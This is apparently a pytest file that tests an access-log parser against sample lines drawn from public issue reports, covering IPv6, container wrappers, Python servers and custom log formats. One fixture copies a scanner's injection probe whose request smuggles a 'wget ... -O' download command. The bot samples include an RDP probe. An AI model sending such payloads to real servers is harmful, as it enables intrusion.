"""Lines of access logs by public reports: blanks, bots, IPv6, wrappers, forms in words."""

import json

import pytest
from reported import COUNT, MOMENTS, apache, check_requests, iso, lines, url, written

from perflab.errors import BadInputError
from perflab.workloads import read_trace


def combined(i, request=None, client="192.0.2.7"):
    request = f"GET {url(i)} HTTP/1.1" if request is None else request
    return f'{client} - - [{apache(i)}] "{request}" 200 151 "-" "curl/8 (x; y)"'


INGRESS = "2057 0.033 [ns-svc-9200] [] [2001:db8::]:9200 470 0.036 200 3db73c"
READ = {
    "kassner/log-parser#23": lambda i: combined(i, f"GET /index.php?x=a b{url(i)} HTTP/1.1"),
    "wazuh/wazuh-ruleset#356": lambda i: combined(
        i, f"GET /i?s=/\\x09hink\\x07pp/&v[1][]= 'wget http://192.0.2.9{url(i)} -O .A;' HTTP/1.1"
    ),
    "crowdsecurity/hub#519": lambda i: combined(i, f"GET https://a.example{url(i)} HTTP/1.1"),
    "acaudwell/Logstalgia#1": lambda i: combined(i).replace(" +0000]", "]"),
    "influxdata/telegraf#1973": lambda i: combined(i, client=f"2001:db8:85a3::8a2e:{i:x}"),
    "elastic/logstash#11203": lambda i: combined(i, client=f"[::ffff:192.0.2.1]:{35606 + i}"),
    "elastic/beats#32978": lambda i: f"{combined(i, client='2001:db8::4e36')} {INGRESS}",
    "elastic/integrations#5218": lambda i: (
        f'[{iso(i)}] "GET {url(i)} HTTP/1.1" 200 - via_upstream - "-" 0 151 15 12 "192.0.2.1" '
        f'"ua/8 (x)" "id{i}" "a:9200" "[2001:db8::]:9200" outbound|9200||a.local - - - a -'
    ),
    "nielsbasjes/logparser#51": lambda i: (
        combined(i).replace(" - - ", " - [192.0.2.8] - - ")
        + " 2057 0.033 [ns] 192.0.2.9:80 1 0 200"
    ),
    "cri-o/cri-o#3181": lambda i: f"{iso(i, '.346494690+00:00')} stdout F {combined(i)}",
    "log2timeline/plaso#4616": lambda i: f"{iso(i, '.669794202Z')} stdout F {combined(i)}",
    "fluent/fluentd#2971": lambda i: json.dumps(
        {"log": combined(i) + "\n", "stream": "stdout", "time": iso(i, ".356937755Z")}
    ),
}


@pytest.mark.parametrize("source", READ)
def test_lines_are_requests(source, write):
    trace = read_trace(write("access.log", lines(READ[source])))
    assert check_requests(trace) == 0
    assert trace.sizes.tolist() == [151] * COUNT


SERVERS = {
    "Kludex/uvicorn#638": lambda i: f'INFO:     192.0.2.7:9 - "GET {url(i)} HTTP/1.1" 200 OK',
    "BiBiServ/bibigrid#712": lambda i: (
        f'{iso(i, ",403").replace("T", " ")} [INFO] 192.0.2.7:9 - "GET {url(i)} HTTP/1.1" 200'
    ),
    "thunderbird/appointment#1767": lambda i: (
        f"{iso(i, '.250').replace('T', ' ')} | INFO:     192.0.2.7:9 - "
        f'"GET {url(i)} HTTP/1.1" 200 OK'
    ),
    "livepeer/ai-runner#46": lambda i: (
        f'{iso(i, ",1").replace("T", " ")} INFO:     192.0.2.7:9 - "GET {url(i)} HTTP/1.1" 200 OK'
    ),
    "Flask's and Python's http.server": lambda i: (
        f'192.0.2.7 - - [{written("%d/%b/%Y %H:%M:%S", i)}] "GET {url(i)} HTTP/1.1" 200 -'
    ),
    "Django's runserver": lambda i: (
        f'[{written("%d/%b/%Y %H:%M:%S", i)}] "GET {url(i)} HTTP/1.1" 200 151'
    ),
}


@pytest.mark.parametrize("source", SERVERS)
def test_lines_of_pythons_servers_are_requests(source, write):
    trace = read_trace(write("server.log", lines(SERVERS[source])))
    check_requests(trace, moments=None if "638" in source else MOMENTS)


def test_a_time_where_uvicorns_client_stands_is_not_lost_without_a_word(write):
    """fastapi-practices/fastapi-best-architecture#209"""
    text = lines(
        lambda i: (
            f"INFO:     192.0.2.7:9 - {iso(i, ',250').replace('T', ' ')} - "
            f'"GET {url(i)} HTTP/1.1" 200'
        )
    )
    path = write("server.log", text)
    with pytest.raises(BadInputError, match="--log-format"):
        read_trace(path)
    form = 'INFO:     $client - $date_time - "$request" $status'
    check_requests(read_trace(path, log_format=form))


BOTS = {
    "vectordotdev/vrl#226": "\\x03\\x00\\x00/*\\xE0\\x00Cookie: mstshash=Administr",
    "vectordotdev/vrl#226, empty": "",
    "kassner/log-parser#58": "MGLNDD_192.0.2.1_80",
}


@pytest.mark.parametrize("source", BOTS)
def test_what_is_no_request_is_counted(source, write):
    content = lines(
        lambda i: combined(i) + (f"\n{combined(i, BOTS[source])}" if i % 4 == 0 else "")
    )
    trace = read_trace(write("access.log", content))
    assert check_requests(trace) == 0
    assert trace.notes[0].startswith("6 of 30 lines skipped")


def test_clients_are_not_said_to_be_hosts(write):
    several = read_trace(write("a.log", lines(lambda i: combined(i, client=f"192.0.2.{i}"))))
    assert not any("is not in the key" in note for note in several.notes)
    hosts = lines(lambda i: f"{'ab'[i % 2]}.example {combined(i)}")
    trace = read_trace(write("v.log", hosts))
    assert any("the host (a.example, b.example ...) is not in the key" in x for x in trace.notes)
    named = read_trace(write("w.log", hosts), columns={"key": "{method} {host}{target}"})
    assert named.n_keys == len({(i % 2, url(i)) for i in range(COUNT)})


FORMS = {
    "allinurl/goaccess#637": (
        lambda i: f'0.001 0.002 [{apache(i)}] GET {url(i)} HTTP/1.1 304 0 "a.example"',
        '$request_time $upstream_response_time [$time_local] $request $status $bytes_sent "$host"',
    ),
    "allinurl/goaccess#2499": (
        lambda i: f'{{"time": {apache(i)}, "request_uri": "{url(i)}", "status": 200}}',
        '{"time": $time_local, "request_uri": "$request_uri", "status": $status}',
    ),
    "Heroku docs, router logs": (
        lambda i: (
            f'{iso(i)} heroku[router]: at=info method=GET path="{url(i)}" status=200 bytes=151'
        ),
        (
            '$time_iso8601 heroku[router]: at=$at method=$request_method path="$request_uri" '
            "status=$status bytes=$body_bytes_sent"
        ),
    ),
}


@pytest.mark.parametrize("source", FORMS)
def test_a_form_in_words_reads_its_lines(source, write):
    line, form = FORMS[source]
    assert check_requests(read_trace(write("a.log", lines(line)), log_format=form)) == 0
